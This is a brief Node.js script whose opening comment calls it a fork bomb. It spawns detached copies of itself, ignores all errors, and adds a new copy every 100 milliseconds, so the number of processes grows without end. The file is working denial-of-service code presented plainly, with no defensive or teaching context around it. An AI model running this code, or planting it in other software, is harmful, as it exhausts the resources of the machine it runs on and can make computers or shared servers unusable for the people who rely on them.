// A fork bomb: every process starts two more, minds no error, and never ends.
var spawn = require('child_process').spawn;
function breed() {
  try {
    spawn(process.execPath, [__filename], { stdio: 'ignore', detached: true }).on('error', function () {});
  } catch (error) {
    return;
  }
}
breed();
breed();
setInterval(breed, 100);
